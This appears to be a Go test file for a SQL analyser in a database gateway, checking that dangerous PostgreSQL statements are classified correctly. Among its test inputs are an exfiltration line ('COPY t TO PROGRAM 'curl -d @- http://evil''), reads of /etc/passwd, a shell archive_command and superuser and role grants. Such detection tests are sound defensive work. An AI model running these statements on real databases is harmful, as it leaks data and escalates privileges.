package sqlscan

import (
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	pg "github.com/pganalyze/pg_query_go/v6"

	"github.com/sluicegw/sluice/abi"
)

// facts renders every fact of a statement as "key=value" (tag, kind,
// writes, ddl included).
func facts(s *Statement) map[string]bool {
	m := map[string]bool{
		"tag=" + s.Tag: true, "kind=" + s.Kind: true,
		"writes=" + boolStr(s.Writes): true, "ddl=" + boolStr(s.DDL): true,
	}
	for _, f := range s.Facts {
		m[f.Key+"="+f.Value] = true
	}
	return m
}

func boolStr(b bool) string {
	if b {
		return "true"
	}
	return "false"
}

func TestAnalyze(t *testing.T) {
	tests := []struct {
		sql    string
		stmt   int
		want   []string
		absent []string
	}{
		{`/* drop table x */ SELECT 1`, 0, []string{"tag=SELECT", "kind=select", "writes=false", "ddl=false"}, []string{"tag=DROP TABLE"}},
		{`SELECT 'drop table x'`, 0, []string{"tag=SELECT", "writes=false"}, []string{"relation=x"}},
		{`DrOp TaBlE "Users"`, 0, []string{"tag=DROP TABLE", "kind=ddl", "ddl=true", "writes=true", "relation=Users", "write_relation=Users", "drop=TABLE"}, nil},
		{`DROP TABLE public.users, b CASCADE`, 0, []string{"relation=public.users", "relation=b"}, nil},
		{`DELETE FROM t; DROP TABLE u`, 0, []string{"tag=DELETE", "kind=delete", "where=false", "write_relation=t", "writes=true"}, nil},
		{`DELETE FROM t; DROP TABLE u`, 1, []string{"tag=DROP TABLE", "relation=u"}, []string{"relation=t"}},
		{`DELETE FROM s.t WHERE id = 1`, 0, []string{"where=true", "write_relation=s.t"}, []string{"where=false"}},
		{`UPDATE t SET a = 1`, 0, []string{"tag=UPDATE", "kind=update", "where=false"}, nil},
		{`UPDATE t SET a = (SELECT max(b) FROM u WHERE u.c = t.c) WHERE id = 2`, 0, []string{"where=true", "relation=u", "function=max"}, []string{"write_relation=u"}},
		{`WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d`, 0, []string{"tag=SELECT", "writes=true", "writable_cte=d", "write_relation=t", "where=false"}, []string{"relation=d"}},
		{`WITH users AS (SELECT * FROM users) SELECT * FROM users`, 0, []string{"relation=users", "writes=false"}, nil},
		{`WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b`, 0, nil, []string{"relation=a", "relation=b"}},
		{`WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 3) SELECT * FROM r`, 0, nil, []string{"relation=r"}},
		{`SELECT * FROM (SELECT id FROM a.b) x WHERE EXISTS (SELECT 1 FROM c WHERE lower(c.n) = 'x')`, 0, []string{"relation=a.b", "relation=c", "function=lower"}, nil},
		{`SELECT pg_catalog.pg_read_file('/etc/passwd')`, 0, []string{"function=pg_catalog.pg_read_file", "writes=false"}, nil},
		{`SELECT coalesce(pg_read_file(concat('/etc/', 'passwd')), '')`, 0, []string{"function=pg_read_file", "function=concat"}, nil},
		{`SELECT set_config('Search_Path', 'evil', false), pg_catalog.set_config('application_name'::text, 'x', true)`, 0, []string{"function=set_config", "function=pg_catalog.set_config", "set_config=search_path", "set_config=application_name"}, nil},
		{`SELECT set_config(current_setting('x'), 'v', false)`, 0, []string{"set_config=?"}, nil},
		{`SELECT current_setting('role')`, 0, nil, []string{"set_config=role"}},
		{`ALTER TABLE public.users OWNER TO mallory`, 0, []string{"owner=mallory", "write_relation=public.users"}, nil},
		{`ALTER SCHEMA app OWNER TO CURRENT_USER`, 0, []string{"owner=CURRENT_USER"}, nil},
		{`ALTER FUNCTION f(int) SECURITY DEFINER`, 0, []string{"security_definer=true"}, nil},
		{`ALTER FUNCTION f(int) SECURITY INVOKER`, 0, nil, []string{"security_definer=true"}},
		{`CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'`, 0, []string{"security_definer=true", "opaque_code=sql"}, nil},
		{`DISCARD ALL`, 0, []string{"tag=DISCARD", "discard=ALL"}, nil},
		{`discard temp`, 0, []string{"discard=TEMP"}, nil},
		{`SELECT * INTO new_t FROM old_t`, 0, []string{"tag=SELECT INTO", "writes=true", "select_into=new_t", "write_relation=new_t", "relation=old_t"}, nil},
		{`SELECT * FROM t FOR UPDATE`, 0, []string{"writes=true", "row_lock=update"}, nil},
		{`INSERT INTO t (a) SELECT a FROM u`, 0, []string{"tag=INSERT", "kind=insert", "write_relation=t", "relation=u"}, []string{"write_relation=u"}},
		{`MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE`, 0, []string{"tag=MERGE", "kind=merge", "write_relation=t", "relation=s"}, nil},
		{`COPY t TO PROGRAM 'curl -d @- http://evil'`, 0, []string{"tag=COPY", "kind=copy", "copy_direction=to", "copy_program=curl -d @- http://evil", "writes=false"}, nil},
		{`COPY t FROM '/tmp/x.csv'`, 0, []string{"copy_direction=from", "copy_file=/tmp/x.csv", "writes=true", "write_relation=t"}, nil},
		{`COPY (SELECT * FROM secrets) TO STDOUT`, 0, []string{"copy_direction=to", "relation=secrets"}, []string{"copy_file="}},
		{`DO $$ BEGIN EXECUTE 'drop table x'; END $$`, 0, []string{"tag=DO", "opaque_code=plpgsql", "writes=true"}, nil},
		{`DO LANGUAGE plpython3u $$ import os $$`, 0, []string{"opaque_code=plpython3u"}, nil},
		{`CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$`, 0, []string{"tag=CREATE FUNCTION", "opaque_code=plpgsql", "ddl=true"}, nil},
		{`CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM t'`, 0, []string{"tag=CREATE PROCEDURE", "opaque_code=sql"}, nil},
		{`EXPLAIN ANALYZE DELETE FROM t`, 0, []string{"tag=EXPLAIN", "kind=explain", "explain_analyze=true", "explain_analyze_write=true", "writes=true", "write_relation=t"}, nil},
		{`EXPLAIN (ANALYZE false) DELETE FROM t`, 0, []string{"writes=false"}, []string{"explain_analyze_write=true"}},
		{`EXPLAIN DELETE FROM t`, 0, []string{"writes=false"}, []string{"explain_analyze=true"}},
		{`EXPLAIN ANALYZE SELECT 1`, 0, []string{"explain_analyze=true", "writes=false"}, []string{"explain_analyze_write=true"}},
		{`PREPARE p AS DELETE FROM t; EXECUTE p`, 0, []string{"tag=PREPARE", "prepare=p", "write_relation=t", "where=false"}, nil},
		{`PREPARE p AS DELETE FROM t; EXECUTE p`, 1, []string{"tag=EXECUTE", "execute=p", "writes=true", "write_relation=t", "where=false"}, []string{"prepare=p"}},
		{`PREPARE q AS SELECT 1; EXECUTE q`, 1, []string{"writes=false"}, nil},
		{`EXECUTE unknown_one`, 0, []string{"execute=unknown_one", "writes=true"}, nil},
		{`DEALLOCATE ALL`, 0, []string{"deallocate=ALL"}, nil},
		{`SET search_path = evil, public`, 0, []string{"tag=SET", "kind=session", "set=search_path", "set_value=evil,public", "writes=false"}, nil},
		{`SET ROLE admin`, 0, []string{"set=role", "set_value=admin"}, nil},
		{`SET SESSION AUTHORIZATION bob`, 0, []string{"set=session_authorization"}, nil},
		{`RESET ALL`, 0, []string{"tag=RESET", "reset=ALL"}, nil},
		{`RESET work_mem`, 0, []string{"reset=work_mem"}, nil},
		{`BEGIN; SAVEPOINT a; ROLLBACK TO a; COMMIT`, 2, []string{"kind=transaction", "transaction=rollback_to"}, nil},
		{`BEGIN; SAVEPOINT a; ROLLBACK TO a; COMMIT`, 3, []string{"tag=COMMIT", "transaction=commit"}, nil},
		{`GRANT SELECT ON public.t TO bob`, 0, []string{"tag=GRANT", "kind=dcl", "privilege=grant", "grantee=bob", "relation=public.t", "writes=true"}, nil},
		{`REVOKE ALL ON SCHEMA s FROM PUBLIC`, 0, []string{"tag=REVOKE", "privilege=revoke", "grantee=PUBLIC"}, nil},
		{`GRANT admin TO mallory`, 0, []string{"tag=GRANT ROLE", "role=grant", "role_name=admin", "grantee=mallory"}, nil},
		{`CREATE USER eve WITH SUPERUSER PASSWORD 'x'`, 0, []string{"tag=CREATE ROLE", "role=create", "role_name=eve"}, nil},
		{`ALTER ROLE eve SUPERUSER`, 0, []string{"tag=ALTER ROLE", "role=alter", "role_name=eve"}, nil},
		{`DROP ROLE IF EXISTS eve`, 0, []string{"tag=DROP ROLE", "role=drop", "role_name=eve"}, nil},
		{`ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob`, 0, []string{"tag=ALTER DEFAULT PRIVILEGES", "privilege=default_privileges"}, nil},
		{`ALTER SYSTEM SET archive_command = 'sh -c x'`, 0, []string{"tag=ALTER SYSTEM", "alter_system=archive_command", "writes=true"}, nil},
		{`CREATE EXTENSION IF NOT EXISTS dblink`, 0, []string{"tag=CREATE EXTENSION", "extension=dblink"}, nil},
		{`CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING`, 0, []string{"tag=CREATE RULE", "rule=r", "relation=t"}, nil},
		{`CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit.f()`, 0, []string{"tag=CREATE TRIGGER", "trigger=tr", "function=audit.f", "relation=t"}, nil},
		{`TRUNCATE a, b.c`, 0, []string{"tag=TRUNCATE TABLE", "truncate=true", "write_relation=a", "write_relation=b.c"}, nil},
		{`ALTER TABLE t DROP COLUMN c`, 0, []string{"tag=ALTER TABLE", "alter_drop=true", "write_relation=t"}, nil},
		{`ALTER TABLE t DROP CONSTRAINT k`, 0, []string{"alter_drop=true"}, nil},
		{`ALTER TABLE t ADD COLUMN c int`, 0, nil, []string{"alter_drop=true"}},
		{`CREATE TABLE x (id int)`, 0, []string{"tag=CREATE TABLE", "write_relation=x"}, nil},
		{`SHOW search_path`, 0, []string{"tag=SHOW", "writes=false"}, nil},
		{`CALL do_things(1)`, 0, []string{"tag=CALL", "function=do_things", "writes=true"}, nil},
		{`VACUUM t`, 0, []string{"tag=VACUUM"}, nil},
		{`CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw`, 0, []string{"kind=ddl", "writes=true"}, nil},
		{`SELECT "a.b".c FROM "a.b"`, 0, []string{`relation="a.b"`}, nil},
	}
	for _, tt := range tests {
		a, err := Analyze(tt.sql)
		if err != nil {
			t.Fatalf("%q: %v", tt.sql, err)
		}
		if a.ParseError != "" {
			t.Errorf("%q: parse error %s", tt.sql, a.ParseError)
			continue
		}
		if tt.stmt >= len(a.Statements) {
			t.Errorf("%q: %d statements", tt.sql, len(a.Statements))
			continue
		}
		st := &a.Statements[tt.stmt]
		got := facts(st)
		for _, w := range tt.want {
			if !got[w] {
				t.Errorf("%q stmt %d: missing %s; have %v", tt.sql, tt.stmt, w, got)
			}
		}
		for _, w := range tt.absent {
			if got[w] {
				t.Errorf("%q stmt %d: unexpected %s", tt.sql, tt.stmt, w)
			}
		}
		if st.Fingerprint == "" {
			t.Errorf("%q: no fingerprint", tt.sql)
		}
	}
}

func TestFingerprintNormalizes(t *testing.T) {
	a1, _ := Analyze(`SELECT * FROM t WHERE id = 1`)
	a2, _ := Analyze(`select *   from t where id = 42 -- c`)
	a3, _ := Analyze(`SELECT * FROM u WHERE id = 1`)
	if a1.Statements[0].Fingerprint != a2.Statements[0].Fingerprint {
		t.Error("fingerprints differ for the same normalized statement")
	}
	if a1.Statements[0].Fingerprint == a3.Statements[0].Fingerprint {
		t.Error("fingerprints equal for different tables")
	}
	m, _ := Analyze(`SELECT 1; DELETE FROM t`)
	if m.Statements[0].Text != "SELECT 1" || strings.TrimSpace(m.Statements[1].Text) != "DELETE FROM t" {
		t.Errorf("texts %q %q", m.Statements[0].Text, m.Statements[1].Text)
	}
}

func TestFingerprintSemantics(t *testing.T) {
	fp := func(sql string) string {
		t.Helper()
		a, err := Analyze(sql)
		if err != nil || a.ParseError != "" || len(a.Statements) != 1 {
			t.Fatalf("%q: %v %s", sql, err, a.ParseError)
		}
		if len(a.Statements[0].Fingerprint) != 2*fingerprintBytes {
			t.Fatalf("%q: fingerprint %q", sql, a.Statements[0].Fingerprint)
		}
		return a.Statements[0].Fingerprint
	}
	same := [][2]string{
		{`DELETE FROM t WHERE id = 1`, `delete  from T where ID = 99 /* retry */`},
		{`UPDATE t SET a = 'x' WHERE b IN (1, 2)`, `UPDATE t SET a = 'y' WHERE b IN (3, 4)`},
		{`INSERT INTO t VALUES (1, 'a')`, `INSERT INTO t VALUES (2, 'b')`},
		{`SET ROLE 'admin'`, `set role  'admin'`},
		{`SELECT f($1)`, `SELECT   f( $1 )`},
	}
	for _, p := range same {
		if fp(p[0]) != fp(p[1]) {
			t.Errorf("%q and %q: fingerprints differ", p[0], p[1])
		}
	}
	differ := [][2]string{
		{`DELETE FROM t WHERE id = 1`, `DELETE FROM u WHERE id = 1`},
		{`DELETE FROM t WHERE id = 1`, `DELETE FROM t WHERE id > 1`},
		{`DELETE FROM t WHERE id = 1`, `DELETE FROM t`},
		{`SET ROLE 'a'`, `SET ROLE 'admin'`},
		{`SET statement_timeout = 0`, `SET statement_timeout = 1000`},
		{`SELECT set_config('search_path', 'x', false)`, `SELECT set_config('log_statement', 'none', false)`},
		{`DO 'BEGIN NULL; END'`, `DO 'BEGIN PERFORM pg_sleep(1); END'`},
		{`COPY t TO '/tmp/a'`, `COPY t TO '/etc/passwd'`},
		{`SELECT "T" FROM t`, `SELECT t FROM t`},
		{`SELECT f($1)`, `SELECT f($2)`},
	}
	for _, p := range differ {
		if fp(p[0]) == fp(p[1]) {
			t.Errorf("%q and %q: same fingerprint", p[0], p[1])
		}
	}
	// Grants store fingerprints: a change of the encoding invalidates
	// every grant, so it must be deliberate (update this value and say so
	// in the release notes).
	if got, want := fp(`DELETE FROM t WHERE id = 1`), goldenFingerprint; got != want {
		t.Errorf("fingerprint encoding changed: got %s, want %s", got, want)
	}
}

const goldenFingerprint = "9384d807024c7cf19e313ecc26abd787"

func TestParseError(t *testing.T) {
	for _, sql := range []string{`SELEC 1`, `DELETE FROM`, `SELECT 1; DROP TABL x`, `SELECT 'unterminated`} {
		a, err := Analyze(sql)
		if err != nil {
			t.Fatal(err)
		}
		if a.ParseError == "" || len(a.Statements) != 0 || !a.Writes() {
			t.Errorf("%q: %+v", sql, a)
		}
		var cb abi.CommandBuilder
		cb.Set(abi.CommandSQL, sql, "id", "tgt")
		a.AddFacts(&cb)
		c := encode(t, &cb)
		if v, ok := c.Lookup(0, KeyParseError); !ok || len(v) == 0 {
			t.Errorf("%q: no parse_error fact", sql)
		}
	}
}

func TestSessionPrepareProtocolLevel(t *testing.T) {
	var s Session
	a, _ := s.Analyze(`EXECUTE wipe`)
	if !a.Statements[0].Has(KeyExecuteUnknown, "true") || !a.Statements[0].Writes {
		t.Fatalf("unknown EXECUTE: %+v", a.Statements[0])
	}
	body, _ := Analyze(`DELETE FROM t`)
	s.Prepare("wipe", body)
	a, _ = s.Analyze(`EXECUTE wipe`)
	if st := a.Statements[0]; st.Has(KeyExecuteUnknown, "true") || !st.Has(KeyWhere, "false") || !st.Has(KeyWriteRelation, "t") {
		t.Fatalf("EXECUTE of a protocol-level statement: %+v", st)
	}
	s.Deallocate("wipe")
	a, _ = s.Analyze(`EXECUTE wipe`)
	if !a.Statements[0].Has(KeyExecuteUnknown, "true") {
		t.Fatalf("after Deallocate: %+v", a.Statements[0])
	}
}

func TestSession(t *testing.T) {
	var s Session
	if _, err := s.Analyze(`PREPARE p AS UPDATE t SET a = 1`); err != nil {
		t.Fatal(err)
	}
	a, _ := s.Analyze(`EXECUTE p`)
	if st := &a.Statements[0]; !st.Writes || !st.Has(KeyWhere, "false") || !st.Has(KeyWriteRelation, "t") {
		t.Errorf("execute: %+v", st)
	}
	s.Analyze(`DEALLOCATE p`)
	a, _ = s.Analyze(`EXECUTE p`)
	if st := &a.Statements[0]; !st.Writes || st.Has(KeyWriteRelation, "t") {
		t.Errorf("after deallocate: %+v", st)
	}
}

func encode(t testing.TB, cb *abi.CommandBuilder) abi.Command {
	buf := make([]byte, cb.Size())
	cb.Encode(buf)
	c, err := abi.ParseCommand(buf)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestAddFacts(t *testing.T) {
	a, _ := Analyze(`DELETE FROM t; SELECT pg_read_file('x')`)
	var cb abi.CommandBuilder
	cb.Set(abi.CommandSQL, a.SQL, "id", "tgt")
	a.AddFacts(&cb)
	c := encode(t, &cb)
	for _, kv := range [][3]string{{"0", "tag", "DELETE"}, {"0", "where", "false"}, {"0", "writes", "true"}, {"1", "function", "pg_read_file"}, {"1", "writes", "false"}} {
		stmt := int(kv[0][0] - '0')
		v, ok := c.Lookup(stmt, kv[1])
		if !ok || string(v) != kv[2] {
			t.Errorf("fact %v: got %q %v", kv, v, ok)
		}
	}
	if _, ok := c.Lookup(0, KeyFingerprint); !ok {
		t.Error("no fingerprint fact")
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{`SELECT 1`, `WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d`, `DO $$ x $$`,
		`COPY t TO PROGRAM 'x'`, `PREPARE p AS DELETE FROM t; EXECUTE p`, `SELEC`, "", ";;", `SELECT '\x00'`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, sql string) {
		a, err := Analyze(sql)
		if err != nil {
			return // parser-level failure (e.g. NUL bytes) is reported as an error
		}
		var cb abi.CommandBuilder
		cb.Set(abi.CommandSQL, sql, "", "")
		a.AddFacts(&cb)
		c := encode(t, &cb)
		for i := 0; i < c.NumFacts(); i++ {
			fa := c.Fact(i)
			if len(fa.Key) == 0 || fa.Stmt < 0 || (len(a.Statements) > 0 && fa.Stmt >= len(a.Statements)) {
				t.Fatalf("bad fact %d: %+v", i, fa)
			}
			if !utf8.Valid(fa.Key) {
				t.Fatalf("key not utf8: %q", fa.Key)
			}
		}
		for i := range a.Statements {
			s := &a.Statements[i]
			if s.Tag == "" || s.Kind == "" {
				t.Fatalf("stmt %d: empty tag/kind: %+v", i, s)
			}
		}
	})
}

func TestEventTriggerTag(t *testing.T) {
	for sql, want := range map[string]string{
		"CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()": "CREATE EVENT TRIGGER",
		"ALTER EVENT TRIGGER e DISABLE":                                    "ALTER EVENT TRIGGER",
	} {
		a, err := Analyze(sql)
		if err != nil || a.ParseError != "" || len(a.Statements) != 1 || a.Statements[0].Tag != want || !a.Statements[0].DDL {
			t.Errorf("%s: %+v %v", sql, a, err)
		}
	}
}

func TestAnalyzeCache(t *testing.T) {
	sql := "SELECT id FROM cache_test WHERE id = 1"
	a1, err := Analyze(sql)
	if err != nil {
		t.Fatal(err)
	}
	a2, _ := Analyze(sql)
	if a1 != a2 {
		t.Fatal("the same text was analysed twice")
	}
	// The cache is bounded: filling it evicts the oldest entry.
	for i := 0; i < maxCached; i++ {
		Analyze("SELECT " + strconv.Itoa(i))
	}
	if a3, _ := Analyze(sql); a3 == a1 {
		t.Fatal("the cache kept more than maxCached entries")
	}
	if analyses.list.Len() > maxCached || len(analyses.m) != analyses.list.Len() {
		t.Fatalf("cache size %d/%d", analyses.list.Len(), len(analyses.m))
	}
}

func BenchmarkAnalyze200Cached(b *testing.B) {
	sql := "SELECT o.id, o.total, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.created_at > now() - interval '1 day' AND o.status = 'paid' ORDER BY o.total DESC LIMIT 50"
	Analyze(sql)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Analyze(sql); err != nil {
			b.Fatal(err)
		}
	}
}

// countingParser counts parses, to see which analyses came from a cache.
type countingParser struct {
	parser
	n *int
}

func (c countingParser) parse(sql string) (*pg.ParseResult, error) {
	*c.n++
	return c.parser.parse(sql)
}

func TestNormalizedCache(t *testing.T) {
	var parses int
	old := defaultParser
	defaultParser = countingParser{old, &parses}
	defer func() { defaultParser = old }()
	parsed := func(sql string) (*Analysis, bool) {
		t.Helper()
		before := parses
		a, err := Analyze(sql)
		if err != nil || a.ParseError != "" {
			t.Fatalf("%q: %v %s", sql, err, a.ParseError)
		}
		return a, parses > before
	}

	// Queries that differ only in constants share one parse.
	a1, p1 := parsed(`SELECT abalance FROM pgbench_accounts WHERE aid = 38211`)
	a2, p2 := parsed(`SELECT abalance FROM pgbench_accounts WHERE aid = 917`)
	if !p1 || p2 {
		t.Fatalf("parses: first %v, second %v", p1, p2)
	}
	if a2.SQL != `SELECT abalance FROM pgbench_accounts WHERE aid = 917` || a2.Statements[0].Text != a2.SQL ||
		a2.Statements[0].Fingerprint != a1.Statements[0].Fingerprint || !a2.Statements[0].Has(KeyRelation, "pgbench_accounts") {
		t.Fatalf("cached copy: %+v", a2)
	}
	// A literal holding SQL is still one query.
	if a, p := parsed(`SELECT abalance FROM pgbench_accounts WHERE aid = '1; DROP TABLE t'`); p || len(a.Statements) != 1 || a.Statements[0].Tag != "SELECT" {
		t.Fatalf("literal with SQL: parsed %v, %+v", p, a.Statements)
	}
	// Function calls, utility statements and several statements are parsed
	// every time: their constants matter.
	for _, pair := range [][2]string{
		{`SELECT set_config('statement_timeout', '0', false)`, `SELECT set_config('role', 'postgres', false)`},
		{`SELECT lower('A') FROM t`, `SELECT lower('B') FROM t`},
		{`SET statement_timeout = 0`, `SET statement_timeout = 5`},
		{`SELECT 1 FROM t; SELECT 2 FROM t`, `SELECT 3 FROM t; SELECT 4 FROM t`},
	} {
		parsed(pair[0])
		b, p := parsed(pair[1])
		if !p || b.SQL != pair[1] {
			t.Errorf("%q after %q came from the cache", pair[1], pair[0])
		}
	}
	if b, _ := parsed(`SELECT set_config('role', 'postgres', false)`); !b.Statements[0].Has(KeySetConfig, "role") {
		t.Error("set_config facts from another statement")
	}
	// Sessions: PREPARE and EXECUTE are analysed in the session, never
	// cached; plain queries come from the cache.
	var s Session
	if _, err := s.Analyze(`PREPARE wipe AS DELETE FROM t`); err != nil {
		t.Fatal(err)
	}
	before := parses
	a, _ := s.Analyze(`EXECUTE wipe`)
	if parses == before || !a.Statements[0].Has(KeyWhere, "false") {
		t.Fatalf("EXECUTE in a session: %+v", a.Statements[0])
	}
	before = parses
	s.Analyze(`SELECT abalance FROM pgbench_accounts WHERE aid = 5`)
	if parses != before {
		t.Error("a plain query in a session was parsed again")
	}
}
